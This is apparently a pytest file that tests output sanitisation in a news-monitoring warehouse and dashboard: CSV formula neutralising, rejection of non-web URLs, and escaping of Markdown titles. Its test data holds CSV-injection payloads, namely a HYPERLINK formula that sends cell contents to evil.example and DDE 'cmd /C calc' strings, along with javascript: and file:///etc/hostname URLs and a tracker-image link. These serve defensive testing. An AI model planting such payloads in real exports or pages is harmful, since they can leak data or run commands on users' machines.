"""What leaves the warehouse: CSV cells, dashboard titles and links, stored URLs, config."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from core.config import load_config
from core.errors import ConfigError
from dashboard import widgets
from demo.synthetic import build_fixture
from pcm.cli import main
from warehouse.articles import ArticleRecord, PassageRecord, store_article
from warehouse.connection import writer
from warehouse.csvsafe import neutralise, neutralise_frame

APP = str(Path(__file__).resolve().parents[2] / "app.py")
HOSTILE_TITLES = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NOW = datetime(2025, 6, 3, 9, tzinfo=UTC)


def _paths(tmp_path):
    config = tmp_path / "pcm.yaml"
    config.write_text("force:\n  name: Test Constabulary\n", encoding="utf-8")
    return ["--config", str(config), "--db", str(tmp_path / "w.duckdb")]


def _store_hostile(paths) -> None:
    cfg = load_config(paths[1], paths[3], environ={})
    with writer(cfg) as con:
        for i, title in enumerate(HOSTILE_TITLES):
            store_article(
                con,
                ArticleRecord(f"https://a.example/{i}", "A", "local_news", title, None, NOW, NOW),
                [PassageRecord(0, 0, f"=cmd|' /C calc'!A{i}", "force")],
            )


def test_neutralise_cells():
    for title in HOSTILE_TITLES:
        assert neutralise(title) == "'" + title
    assert neutralise("Police praised") == "Police praised"
    assert neutralise(-3) == -3
    assert neutralise(None) is None
    df = neutralise_frame(pd.DataFrame({"title": ["=1+1", "ok"], "net": [-0.5, 0.2]}))
    assert df["title"].tolist() == ["'=1+1", "ok"]
    assert df["net"].tolist() == [-0.5, 0.2]


def test_export_csv_neutralises_formula_cells(tmp_path, capsys):
    paths = _paths(tmp_path)
    _store_hostile(paths)
    out = tmp_path / "out"
    assert main(["export", "--out", str(out), "--format", "csv", *paths]) == 0
    with (out / "articles.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["title"] for r in rows] == ["'" + t for t in HOSTILE_TITLES]
    assert [r["url"] for r in rows] == [f"https://a.example/{i}" for i in range(6)]
    with (out / "passages.csv").open(encoding="utf-8", newline="") as handle:
        texts = [r["text"] for r in csv.DictReader(handle)]
    assert texts
    assert all(t.startswith("'=cmd") for t in texts)
    # Parquet keeps the values exactly as stored
    assert main(["export", "--out", str(tmp_path / "pq"), *paths]) == 0
    con = duckdb.connect()
    try:
        stored = con.execute(
            "SELECT title FROM read_parquet(?) ORDER BY id",
            [str(tmp_path / "pq" / "articles.parquet")],
        ).fetchall()
    finally:
        con.close()
    assert [t for (t,) in stored] == HOSTILE_TITLES


def test_sql_csv_neutralises_formula_cells(tmp_path, capsys):
    paths = _paths(tmp_path)
    _store_hostile(paths)
    capsys.readouterr()
    assert (
        main(["sql", "SELECT id, title FROM articles ORDER BY id", "--format", "csv", *paths]) == 0
    )
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    # (a bare CR inside a cell is not quoted by Python's csv writer: compare the others)
    titles = [r[1] for r in rows[1:] if len(r) == 2]
    assert titles[:5] == ["'" + t for t in HOSTILE_TITLES[:5]]
    assert rows[1][0] == "1"  # numbers untouched


def test_dashboard_download_neutralises_formula_cells():
    df = pd.DataFrame({"id": [1, 2], "title": HOSTILE_TITLES[:2], "net": [-0.6, 0.4]})
    rows = list(csv.DictReader(io.StringIO(widgets.csv_bytes(df).decode("utf-8"))))
    assert [r["title"] for r in rows] == ["'" + t for t in HOSTILE_TITLES[:2]]
    assert [r["net"] for r in rows] == ["-0.6", "0.4"]


def test_non_web_urls_are_never_stored(tmp_path):
    paths = _paths(tmp_path)
    cfg = load_config(paths[1], paths[3], environ={})
    with writer(cfg) as con:
        for url in ("javascript:alert(1)", "JAVASCRIPT:alert(1)", "file:///etc/hostname"):
            with pytest.raises(ValueError, match="not an http"):
                store_article(con, ArticleRecord(url, "A", "local_news", "T", None, NOW, NOW), [])
        assert con.execute("SELECT count(*) FROM articles").fetchone()[0] == 0


MARKDOWN_TITLE = (
    "[Click for the report](https://evil.example/x) ![tracker](https://evil.example/p.png)"
)


@pytest.mark.slow
def test_story_titles_are_plain_text_and_bad_links_are_not_offered(tmp_path, monkeypatch):
    fx = build_fixture(tmp_path / "wh", passages=200)
    con = duckdb.connect(str(fx.db))
    try:
        con.execute(
            "UPDATE articles SET title = ?, url = 'javascript:alert(1)' WHERE id = ?",
            [MARKDOWN_TITLE, fx.known.criticised],
        )
        con.execute("CHECKPOINT")
    finally:
        con.close()
    monkeypatch.setenv("PCM_CONFIG", str(fx.config))
    monkeypatch.setenv("PCM_DB", str(fx.db))
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params["article"] = str(fx.known.criticised)
    at.run()
    at.switch_page("dashboard/stories.py").run()
    assert not at.exception, [e.value for e in at.exception]
    # the title is escaped: Streamlit shows the brackets, makes no link and loads no image
    assert [h.value for h in at.subheader] == [widgets.escape(MARKDOWN_TITLE)]
    assert "](https://evil.example" not in "\n".join(m.value for m in at.markdown)
    assert len(at.link_button) == 0  # no "Open the original" for a javascript: URL


def test_invalid_article_pattern_is_refused_in_one_line(tmp_path, capsys):
    config = tmp_path / "c.yaml"
    config.write_text(
        "force: {name: Test Force}\n"
        "sources:\n"
        "  - name: Listing\n"
        "    kind: local_news\n"
        "    start_urls: [https://news.example/]\n"
        "    article_patterns: ['/news/\\d+/', '/story/([a-z]+']\n",
        encoding="utf-8",
    )
    with pytest.raises(ConfigError) as caught:
        load_config(config, environ={})
    message = str(caught.value)
    assert "sources.0.article_patterns" in message
    assert "/story/([a-z]+" in message
    assert "\n" not in message
    code = main(["crawl", "--config", str(config), "--db", str(tmp_path / "w.duckdb")])
    err = capsys.readouterr().err
    assert code != 0
    assert err.count("\n") == 1
    assert "invalid regular expression" in err
    assert not (tmp_path / "w.duckdb").exists()
